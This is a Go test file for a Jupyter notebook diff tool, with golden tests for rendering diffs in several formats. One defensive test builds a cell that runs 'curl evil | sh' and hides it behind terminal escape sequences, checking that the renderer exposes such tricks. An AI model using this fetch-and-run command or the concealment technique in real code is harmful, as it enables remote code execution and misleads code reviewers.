package diff

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"

	"github.com/nbtools/nbdiff/notebook"
	"github.com/nbtools/nbdiff/notebook/nbtest"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// withOutputs sets outputs on cell i of n from JSON text.
func withOutputs(n *notebook.Notebook, i int, count, outputs string) *notebook.Notebook {
	c := n.Cells[i]
	src := `{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"code","id":"x","metadata":{},"source":"","execution_count":` +
		count + `,"outputs":` + outputs + `}]}`
	p, err := notebook.Parse([]byte(src))
	if err != nil {
		panic(err)
	}
	c.Outputs, c.ExecutionCount = p.Cells[0].Outputs, p.Cells[0].ExecutionCount
	return n
}

// withMetadata sets the metadata of cell i of n (-1: of the notebook) from
// JSON text.
func withMetadata(n *notebook.Notebook, i int, md string) *notebook.Notebook {
	src := `{"nbformat":4,"nbformat_minor":5,"metadata":` + md + `,"cells":[]}`
	p, err := notebook.Parse([]byte(src))
	if err != nil {
		panic(err)
	}
	if i < 0 {
		n.Metadata = p.Metadata
	} else {
		n.Cells[i].Metadata = p.Metadata
	}
	return n
}

// withAttachments sets the attachments of cell i of n from JSON text.
func withAttachments(n *notebook.Notebook, i int, att string) *notebook.Notebook {
	src := `{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"markdown","id":"x","metadata":{},"source":"","attachments":` + att + `}]}`
	p, err := notebook.Parse([]byte(src))
	if err != nil {
		panic(err)
	}
	n.Cells[i].Attachments = p.Cells[0].Attachments
	return n
}

const (
	pngA = `{"a.png":{"image/png":"iVBORw0KGgoAAAA=\n"}}`
	pngB = `{"a.png":{"image/png":"iVBORw0KGgoBBBB=\n"}}`
)

const (
	streamOut = `[{"output_type":"stream","name":"stdout","text":["a\n","b\n"]}]`
	streamNew = `[{"output_type":"stream","name":"stdout","text":["a\n","c\n"]},` +
		`{"output_type":"display_data","metadata":{},"data":{"image/png":"iVBORw0KGgo=\n","text/plain":["<Figure>"]}}]`
)

// renderCases are the notebook pairs of the golden tests. The golden file
// testdata/NAME.txtar holds each rendering.
var renderCases = []struct {
	name string
	a, b *notebook.Notebook
	opts Options
}{
	{"modify", nbtest.Parse("code:import~pandas~as~pd|df~=~pd.read_csv('old.csv')|df.head() md:#~Title|Some~text."),
		nbtest.Parse("code:import~pandas~as~pd|df~=~pd.read_csv('data/new.csv')|df~=~df.dropna()|df.head() md:#~Title|Some~text."), Options{}},
	{"insert delete move", nbtest.Parse("md:#~Intro code:x~=~1 code:y~=~2 code:plot(x,~y) md:##~End"),
		nbtest.Parse("md:#~Intro code:y~=~2 code:x~=~1 md:##~Results|The~model~improves. code:plot(x,~y)"), Options{}},
	{"moved only", nbtest.Parse("code:a~=~1 code:b~=~2 code:c~=~3"), nbtest.Parse("code:b~=~2 code:c~=~3 code:a~=~1"), Options{}},
	{"added notebook", nil, nbtest.Parse("md:#~New code:print('hi')"), Options{}},
	{"deleted notebook", nbtest.Parse("md:#~Old code:print('bye')"), nil, Options{}},
	{"identical", nbtest.Parse("code:a md:b"), nbtest.Parse("code:a md:b"), Options{}},
	{"hidden outputs", withOutputs(nbtest.Parse("code#c1:print(1) code#c2:x"), 0, "1", streamOut),
		withOutputs(withMetadata(nbtest.Parse("code#c1:print(1) code#c3:x"), 1, `{"tags":["t"]}`), 0, "2", streamNew), Options{}},
	{"outputs shown", withOutputs(nbtest.Parse("code#c1:print(1)"), 0, "1", streamOut),
		withOutputs(nbtest.Parse("code#c1:print(1)"), 0, "2", streamNew), Options{Outputs: true}},
	{"metadata shown", withMetadata(withMetadata(nbtest.Parse("code#c1:x md#c2:y"), 0, `{"tags":["a"],"x":1}`), -1, `{"kernelspec":{"name":"python3"}}`),
		withMetadata(withMetadata(nbtest.Parse("code#c1:x md#c9:y"), 0, `{"tags":["a","b"]}`), -1, `{"kernelspec":{"name":"ir"}}`), Options{Metadata: true}},
	{"two hunks", nbtest.Parse("code:l1|l2|l3|l4|l5|l6|l7|l8|l9|l10|l11|l12|l13|l14|l15"),
		nbtest.Parse("code:l1|L2|l3|l4|l5|l6|l7|l8|l9|l10|l11|l12|l13|L14|l15"), Options{}},
	{"final newline", nbtest.Parse("code:a|b md:x"), nbtest.Parse("code:a|b| md:x"), Options{}},
	{"type changed", nbtest.Parse("code#i1:x code#i2:#~T"), nbtest.Parse("code#i1:x md#i2:#~T"), Options{}},
	{"empty cells", nbtest.Parse("code:a code: md:b"), nbtest.Parse("code:a md: md:b"), Options{}},
	{"append line", nbtest.Parse("code:a|b"), nbtest.Parse("code:a|b|c"), Options{}},
	{"blank context", nbtest.Parse("code:a|||b|||c"), nbtest.Parse("code:a|||B|||c"), Options{}},
	{"moved and edited", nbtest.Parse("code#c1:x=1|y=2 code#c2:z code#c3:w"), nbtest.Parse("code#c2:z code#c3:w code#c1:x=1|y=3"), Options{}},
	{"mixed notes", withOutputs(nbtest.Parse("code#c1:p code#c2:q code#c3:r code#c4:s"), 3, "1", streamOut),
		withOutputs(nbtest.Parse("code#c1:p code#c3:r code#c2:q code#c4:s2"), 3, "2", streamOut), Options{}},
	{"type changed without ids", nbtest.Parse("code:x code:#~Title|Some~text. code:y"), nbtest.Parse("code:x md:#~Title|Some~text. code:y"), Options{}},
	{"moved and edited without ids", nbtest.Parse("code:def~f(x):|~~~~return~x code:a~=~1 code:b~=~2 md:#~End"),
		nbtest.Parse("code:a~=~1 code:b~=~2 md:#~End code:def~f(x):|~~~~return~x~+~1"), Options{}},
	{"attachments hidden", withAttachments(nbtest.Parse("md:![a](attachment:a.png) code:x"), 0, pngA),
		withAttachments(nbtest.Parse("md:![a](attachment:a.png) code:x"), 0, pngB), Options{}},
	{"attachments shown", withAttachments(nbtest.Parse("md:![a](attachment:a.png) code:x"), 0, pngA),
		withAttachments(nbtest.Parse("md:![a](attachment:a.png) code:x"), 0, pngB), Options{Outputs: true}},
	{"word highlight", nbtest.Parse("code:total~=~sum(values)~/~len(values)"), nbtest.Parse("code:total~=~sum(weights)~/~len(values)"), Options{}},
}

func TestRenderGolden(t *testing.T) {
	for _, c := range renderCases {
		t.Run(c.name, func(t *testing.T) {
			r := Notebooks(c.a, c.b, c.opts)
			var ar txtar.Archive
			for _, f := range []struct {
				name string
				ro   RenderOptions
			}{
				{"plain", RenderOptions{OldPath: "nb.ipynb"}},
				{"color", RenderOptions{OldPath: "nb.ipynb", Color: true}},
				{"stat", RenderOptions{OldPath: "nb.ipynb", Format: Stat}},
				{"json", RenderOptions{OldPath: "nb.ipynb", Format: JSON}},
				{"side-by-side", RenderOptions{OldPath: "nb.ipynb", Format: SideBySide, Width: 60}},
			} {
				var buf bytes.Buffer
				if err := Render(&buf, r, f.ro); err != nil {
					t.Fatal(err)
				}
				ar.Files = append(ar.Files, txtar.File{Name: f.name, Data: buf.Bytes()})
			}
			golden(t, strings.ReplaceAll(c.name, " ", "-")+".txtar", txtar.Format(&ar))
		})
	}
}

// golden compares got with testdata/name, or writes it there with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./diff -update to create it)", err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s differs (-want +got; go test ./diff -update rewrites it):\n%s", path, d)
	}
}

func TestRenderTextGolden(t *testing.T) {
	a := []byte("{\n \"cells\": [\n  1,\n  2\n <<<<<<< ours\n")
	b := []byte("{\n \"cells\": [\n  1,\n  3\n <<<<<<< ours\n")
	var ar txtar.Archive
	for _, f := range []struct {
		name string
		a, b []byte
		ro   RenderOptions
	}{
		{"changed", a, b, RenderOptions{}},
		{"changed color", a, b, RenderOptions{Color: true}},
		{"added", nil, b, RenderOptions{}},
		{"deleted", a, nil, RenderOptions{}},
		{"equal", a, a, RenderOptions{}},
		{"stat", a, b, RenderOptions{Format: Stat}},
		{"json", nil, b, RenderOptions{Format: JSON}},
	} {
		var buf bytes.Buffer
		if err := RenderText(&buf, "x.ipynb", "x.ipynb", f.a, f.b, f.ro, "not a notebook: invalid JSON; shown as text"); err != nil {
			t.Fatal(err)
		}
		ar.Files = append(ar.Files, txtar.File{Name: f.name, Data: buf.Bytes()})
	}
	golden(t, "render-text.txtar", txtar.Format(&ar))
}

func TestTextconvGolden(t *testing.T) {
	n := nbtest.Parse("md#m1:#~Title|text code:x~=~1|print(x) code: raw:plain")
	golden(t, "textconv.txt", Textconv(n))
}

// TestEmpty checks that identical notebooks, under each option, print
// nothing in every format but JSON, whose diff is empty.
func TestEmpty(t *testing.T) {
	a := withOutputs(nbtest.Parse("code#1:x md#2:y"), 0, "1", streamOut)
	for _, opts := range []Options{{}, {Outputs: true}, {Metadata: true}, {Outputs: true, Metadata: true}} {
		r := Notebooks(a, a.Clone(), opts)
		if !r.Empty() {
			t.Errorf("%+v: not empty", opts)
		}
		for _, f := range []Format{Plain, Stat} {
			var buf bytes.Buffer
			if err := Render(&buf, r, RenderOptions{Format: f}); err != nil || buf.Len() > 0 {
				t.Errorf("%+v, format %d: printed %q, %v", opts, f, buf.String(), err)
			}
		}
		var buf bytes.Buffer
		if err := Render(&buf, r, RenderOptions{Format: JSON, NewPath: "p"}); err != nil || buf.String() != `{"old_path":"p","new_path":"p","diff":[]}`+"\n" {
			t.Errorf("%+v: JSON %q, %v", opts, buf.String(), err)
		}
	}
	if r := Notebooks(nil, nil, Options{}); !r.Empty() {
		t.Errorf("two absent notebooks: not empty")
	}
	if r := Notebooks(nil, nbtest.Parse(""), Options{}); r.Empty() {
		t.Errorf("an added notebook without cells: empty")
	}
}

// TestHiddenOnly checks that a change of hidden parts only is one note,
// and shown with the option that shows it.
func TestHiddenOnly(t *testing.T) {
	a := withOutputs(nbtest.Parse("code#1:x"), 0, "1", streamOut)
	b := withOutputs(nbtest.Parse("code#1:x"), 0, "1", streamNew)
	r := Notebooks(a, b, Options{})
	if r.Empty() || r.Hidden.Outputs != 1 {
		t.Fatalf("hidden = %+v, empty = %v", r.Hidden, r.Empty())
	}
	var buf bytes.Buffer
	Render(&buf, r, RenderOptions{NewPath: "p.ipynb"})
	want := "diff --git a/p.ipynb b/p.ipynb\n# 1 cell has new outputs (--outputs)\n"
	if buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
	r = Notebooks(a, b, Options{Outputs: true})
	if r.Hidden.Any() || !r.Cells[0].Outputs.Changed() {
		t.Errorf("with Outputs: hidden %+v, outputs changed %v", r.Hidden, r.Cells[0].Outputs.Changed())
	}
}

// TestNotebooksDoesNotModify checks that Notebooks leaves its inputs alone.
func TestNotebooksDoesNotModify(t *testing.T) {
	a := withOutputs(nbtest.Parse("code#1:x|y md#2:z"), 0, "1", streamOut)
	b := withOutputs(nbtest.Parse("md#2:z code#1:x|w"), 1, "3", streamNew)
	wa, wb := notebook.Write(a), notebook.Write(b)
	r := Notebooks(a, b, Options{Outputs: true, Metadata: true})
	for _, f := range []Format{Plain, Stat, JSON} {
		Render(&bytes.Buffer{}, r, RenderOptions{Format: f, Color: true})
	}
	if !bytes.Equal(wa, notebook.Write(a)) || !bytes.Equal(wb, notebook.Write(b)) {
		t.Errorf("Notebooks or Render modified its inputs")
	}
}

// TestTextconvFuncname checks that the xfuncname pattern matches every
// cell header of Textconv and no source line, including cells of unknown
// types, ids with odd characters and sources that look almost like a header.
func TestTextconvFuncname(t *testing.T) {
	re := regexp.MustCompile(TextconvFuncname)
	n := nbtest.Parse("md:#~cell~3~code code#ab-c_1:x raw:#~cell~x~[code] code#id~with~space:")
	n.Cells = append(n.Cells, &notebook.Cell{Type: "future-type", Source: "y\n", ID: "a\nb"})
	lines := strings.Split(strings.TrimSuffix(string(Textconv(n)), "\n"), "\n")
	k := 0
	for i, c := range n.Cells {
		if k >= len(lines) || !re.MatchString(lines[k]) || !strings.HasPrefix(lines[k], fmt.Sprintf("# cell %d [%s]", i+1, c.Type)) {
			t.Fatalf("cell %d: header line %d not matched: %q", i+1, k, lines)
		}
		k++
		for range c.Lines() {
			if re.MatchString(lines[k]) {
				t.Errorf("cell %d: source line %q matches", i+1, lines[k])
			}
			k++
		}
	}
	if k != len(lines) {
		t.Errorf("%d lines left over: %q", len(lines)-k, lines[k:])
	}
}

// TestStatRename names a renamed notebook as git does.
func TestStatRename(t *testing.T) {
	var buf bytes.Buffer
	r := Notebooks(nbtest.Parse("code:a"), nbtest.Parse("code:b"), Options{})
	if err := Render(&buf, r, RenderOptions{Format: Stat, OldPath: "old.ipynb", NewPath: "new.ipynb"}); err != nil {
		t.Fatal(err)
	}
	if want := " old.ipynb => new.ipynb | 2 +-  1 cell added, 1 removed\n 1 notebook changed, 1 cell added, 1 cell removed, 1 line added(+), 1 line removed(-)\n"; buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
}

// TestRenderAbsolutePaths: absolute paths show in the headers as git diff
// --no-index shows them, "a/tmp/x.ipynb", not "a//tmp/x.ipynb", for
// notebooks and for files that are not notebooks.
func TestRenderAbsolutePaths(t *testing.T) {
	var nbOut, textOut bytes.Buffer
	r := Notebooks(nbtest.Parse("code:a"), nbtest.Parse("code:b"), Options{})
	ro := RenderOptions{OldPath: "/tmp/old.ipynb", NewPath: "/tmp/new.ipynb"}
	if err := Render(&nbOut, r, ro); err != nil {
		t.Fatal(err)
	}
	if err := RenderText(&textOut, "/tmp/old.ipynb", "/tmp/new.ipynb", []byte("x\n"), []byte("y\n"), RenderOptions{}, ""); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{nbOut.String(), textOut.String()} {
		want := "diff --git a/tmp/old.ipynb b/tmp/new.ipynb\n--- a/tmp/old.ipynb\n+++ b/tmp/new.ipynb\n"
		if !strings.HasPrefix(out, want) {
			t.Errorf("headers:\n%s\nwant them to start with\n%s", out, want)
		}
	}
}

type failWriter struct{ err error }

func (w failWriter) Write([]byte) (int, error) { return 0, w.err }

// TestRenderWriteError checks that a failing writer's error comes back
// wrapped, for every format and for RenderText.
func TestRenderWriteError(t *testing.T) {
	errClosed := errors.New("closed pipe")
	r := Notebooks(nbtest.Parse("code:a"), nbtest.Parse("code:b"), Options{})
	for _, f := range []Format{Plain, Stat, JSON} {
		if err := Render(failWriter{errClosed}, r, RenderOptions{Format: f}); !errors.Is(err, errClosed) {
			t.Errorf("format %d: got %v, want %v wrapped", f, err, errClosed)
		}
	}
	if err := RenderText(failWriter{errClosed}, "a", "b", []byte("x\n"), []byte("y\n"), RenderOptions{}, ""); !errors.Is(err, errClosed) {
		t.Errorf("RenderText: got %v, want %v wrapped", err, errClosed)
	}
}

// TestControlCharactersShown: a notebook's source cannot send escape
// sequences to the reviewer's terminal (erase the line above, move the
// cursor, set the title): control characters other than a tab are shown
// as less shows them ("^[", "<U+009B>"), in every view, with the word
// highlight and syntax colours still in place around them.
func TestControlCharactersShown(t *testing.T) {
	a := nbtest.Parse("code:x~=~1")
	b := nbtest.Parse("code:x~=~1")
	b.Cells[0].Source = "import os; os.system('curl evil | sh')\x1b[2K\x1b[1A\x1b[2K\x07\x7f\u009b2J\tx = 1 # harmless"
	r := Notebooks(a, b, Options{})
	for _, ro := range []RenderOptions{
		{OldPath: "nb.ipynb"},
		{OldPath: "nb.ipynb", Color: true},
		{OldPath: "nb.ipynb", Format: SideBySide, Width: 200},
		{OldPath: "nb.ipynb", Format: SideBySide, Width: 200, Color: true},
	} {
		var buf bytes.Buffer
		if err := Render(&buf, r, ro); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		// The renderer's own colours are the only escape sequences left.
		rest := regexp.MustCompile("\x1b\\[[0-9;]*m").ReplaceAllString(out, "")
		if strings.ContainsAny(rest, "\x1b\x07\x7f\u009b") {
			t.Errorf("format %v color %v: control characters reach the terminal:\n%q", ro.Format, ro.Color, out)
		}
		if !strings.Contains(rest, "sh')^[[2K^[[1A^[[2K^G^?<U+009B>2J") {
			t.Errorf("format %v color %v: control characters not shown:\n%q", ro.Format, ro.Color, rest)
		}
	}
	// A file compared as text may hold bytes that are not UTF-8: beside a
	// control character, at the end of a line, they are shown as U+FFFD
	// (the offsets of a line once ran past its end there: a panic).
	var buf bytes.Buffer
	if err := RenderText(&buf, "a.txt", "b.txt", []byte("x\n"), []byte("y\x1b\xff\n"), RenderOptions{Format: SideBySide, Width: 80}, ""); err != nil {
		t.Fatal(err)
	}
	buf.Reset()
	if err := RenderText(&buf, "a.txt", "b.txt", []byte("x\n"), []byte("y\x1b\xff\n"), RenderOptions{}, ""); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "+y^[\uFFFD") {
		t.Errorf("a line with a control character and a byte that is not UTF-8:\n%q", buf.String())
	}
}
